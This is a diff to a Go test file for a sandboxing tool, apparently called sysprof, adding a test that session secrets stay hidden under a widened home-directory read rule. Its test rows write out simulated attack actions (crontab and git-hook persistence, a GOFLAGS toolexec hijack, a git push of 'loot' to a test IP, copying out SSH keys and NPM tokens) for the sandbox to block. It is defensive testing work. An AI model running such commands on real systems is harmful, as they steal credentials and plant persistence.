@@ -13,6 +13,7 @@ import (
 	"time"
 
 	"github.com/sysprof/sysprof/internal/testutil"
+	"github.com/sysprof/sysprof/policy"
 	"github.com/sysprof/sysprof/report"
 )
 
@@ -65,9 +66,12 @@ var leakMarkers = []string{"FAKE-ssh-key", "FAKEnpmtoken", "FAKE-aws", "FAKE-env
 	"FAKE-chromium", "FAKE-history", "FAKE-zshhistory", "FAKEenvgithub", "FAKEenvnpm"}
 
 const (
-	portUnseen = "connects to ports no network rule names"
-	gitGlobal  = "$HOME/.gitconfig"
-	cronSpool  = "/var/spool/cron/crontabs"
+	// spawnRefused: a step that never started a program (python3 -c) is refused the spawn
+	// itself, before any exec names the program.
+	spawnRefused = "clone(CLONE_VM"
+	portUnseen   = "connects to ports no network rule names"
+	gitGlobal    = "$HOME/.gitconfig"
+	cronSpool    = "/var/spool/cron/crontabs"
 )
 
 func hidden6(p string) supplyRow {
@@ -98,10 +102,10 @@ var supply6Rows = []supplyRow{
 	{action: "unix=$DBUS_SESSION_BUS_ADDRESS", sink: "unix-bus-", kind: report.KindNetwork, key: session6 + "/bus", unobservable: unixUnseen},
 
 	// Persistence by the tools themselves, a PATH shadow, the project next door.
-	{action: "run=crontab -", host: cronSpool, kind: report.KindFile, key: "bin/crontab exec|/var/spool/cron", unobservable: fileDenied},
-	{action: "run=git config --global core.hooksPath $HOME/.hooks", host: gitGlobal, kind: report.KindFile, key: "/.gitconfig|bin/git exec", unobservable: fileDenied},
-	{action: "run=git config --global include.path $HOME/.config/sc6.inc", host: gitGlobal, kind: report.KindFile, key: "/.gitconfig|bin/git exec", unobservable: fileDenied},
-	{action: "run=go env -w GOFLAGS=-toolexec=$HOME/.cache/x", host: "$HOME/.config/go/env", kind: report.KindFile, key: "/go/env|bin/go exec", unobservable: fileDenied},
+	{action: "run=crontab -", host: cronSpool, kind: report.KindFile, key: "bin/crontab exec|/var/spool/cron|" + spawnRefused, unobservable: fileDenied},
+	{action: "run=git config --global core.hooksPath $HOME/.hooks", host: gitGlobal, kind: report.KindFile, key: "/.gitconfig|bin/git exec|" + spawnRefused, unobservable: fileDenied},
+	{action: "run=git config --global include.path $HOME/.config/sc6.inc", host: gitGlobal, kind: report.KindFile, key: "/.gitconfig|bin/git exec|" + spawnRefused, unobservable: fileDenied},
+	{action: "run=go env -w GOFLAGS=-toolexec=$HOME/.cache/x", host: "$HOME/.config/go/env", kind: report.KindFile, key: "/go/env|bin/go exec|" + spawnRefused, unobservable: fileDenied},
 	persistRow("$HOME/.local/bin/git", "/.local/bin"),
 	persistRow("$WORKDIR/../sibling/Makefile", "sibling/Makefile"),
 	persistRow("$WORKDIR/../sibling/.git/hooks/pre-commit", "sibling/.git/hooks"),
@@ -115,7 +119,7 @@ var supply6Rows = []supplyRow{
 	{action: "http=registry.test:8080,host-mismatch", sink: "evil-host.test", kind: report.KindNetwork, key: "evil-host.test"},
 	{action: "sni=registry.test:8080,evil-sni.test", sink: "evil-sni.test", kind: report.KindNetwork, key: "evil-sni.test"},
 	{action: "redirect=registry.test:8080", sink: "loot-redirected", kind: report.KindNetwork, key: "10.78.0.9:4445", unobservable: portUnseen},
-	{action: "run=git push -q http://10.78.0.9:4446/loot.git HEAD:refs/heads/loot", sink: "loot.git", kind: report.KindFile, key: "10.78.0.9:4446|bin/git exec|git-remote-http", unobservable: portUnseen + "|" + fileDenied},
+	{action: "run=git push -q http://10.78.0.9:4446/loot.git HEAD:refs/heads/loot", sink: "loot.git", kind: report.KindFile, key: "10.78.0.9:4446|bin/git exec|git-core/git exec|" + spawnRefused, unobservable: portUnseen + "|" + fileDenied},
 	{action: "copyout=$HOME/.ssh/id_ed25519", leak: "bytes of secret", kind: "hidden", key: ".ssh/id_ed25519", unobservable: fileDenied},
 	{action: "copyout=$WORKDIR/.git/config", leak: "bytes of secret", kind: "hidden", key: ".git/config", unobservable: fileDenied},
 	{action: "copyout=env:NPM_TOKEN", leak: "bytes of secret", kind: "env", key: "NPM_TOKEN"},
@@ -259,4 +263,48 @@ func TestSupplyChainSixthRows(t *testing.T) {
 // TestSupplyChainSixthWays runs every round's attacks through the sixth round's ways in.
 func TestSupplyChainSixthWays(t *testing.T) {
 	runSupplySuite(t, supply6Vectors, slices.Concat(supplyRows, supply5Persist, supply6Rows), sixthRound(t))
+}
+
+// TestSupplyChainSessionSecretsUnderWideRead: a profile that reads the home whole (a tool that
+// walks it, or a rule a user widened) still hides the session's secrets: the browser profiles
+// and histories too, not only the classic credential stores (paths.CredentialStores).
+func TestSupplyChainSessionSecretsUnderWideRead(t *testing.T) {
+	testutil.RequireRoot(t)
+	testutil.RequireTools(t, hostPath, "unshare", "nsenter", "ip", "setpriv", "python3", "git", "make")
+	root, sc, b, _ := poisonedMakeBox(t, "sysprof-e2e-wideread-")
+	for p, content := range secret6 {
+		testutil.WriteFile(t, expand6(b, p), content, 0o600)
+	}
+	var rows []supplyRow
+	for _, r := range supply6Rows {
+		if r.kind == "hidden" {
+			rows = append(rows, r)
+		}
+	}
+	var arm []string
+	for _, r := range rows {
+		arm = append(arm, r.action)
+	}
+	learned := filepath.Join(root, "make.yaml")
+	testutil.MustCode(t, "learn the dormant package", sc.run(t, b, nil, nil, testutil.SysprofBin, "learn", "-p", learned, "--", "make"), 0)
+	p := loadProfile(t, learned)
+	p.Filesystem.Read = append(p.Filesystem.Read, policy.PathRule{Path: "$HOME", Note: "widened: the home whole"})
+	profile := filepath.Join(root, "wide.yaml")
+	if err := policy.Save(profile, p); err != nil {
+		t.Fatal(err)
+	}
+	openForNobody(t, filepath.Join(root, "make"))
+	os.Chmod(profile, 0o644)
+	for _, as := range asUsers {
+		t.Run(as.name, func(t *testing.T) {
+			if as.wrap != nil {
+				chownTree(t, b.Work, 65534)
+				chownTree(t, b.Home, 65534)
+			}
+			os.RemoveAll(filepath.Join(b.Work, "out"))
+			rep := filepath.Join(root, "make", as.name+".json")
+			r := sc.run(t, b, as.wrap, []string{"SUPPLY_ARM=" + strings.Join(arm, "\n")}, testutil.SysprofBin, "enforce", "-p", profile, "--report", rep, "--", "make")
+			checkSupplyRun(t, b, r, rows, arm, rep, "", nil, nil, as.wrap != nil)
+		})
+	}
 }
